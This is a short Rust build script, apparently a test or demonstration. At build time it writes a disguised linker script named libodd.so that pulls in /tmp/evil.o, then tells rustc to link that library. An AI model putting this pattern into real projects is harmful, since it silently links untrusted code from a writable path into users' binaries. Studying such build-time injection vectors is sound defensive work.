fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::write(format!("{out}/libodd.so"), "INPUT(/tmp/evil.o)").unwrap();
    println!("cargo:rustc-flags=-L {out} -l odd");
}
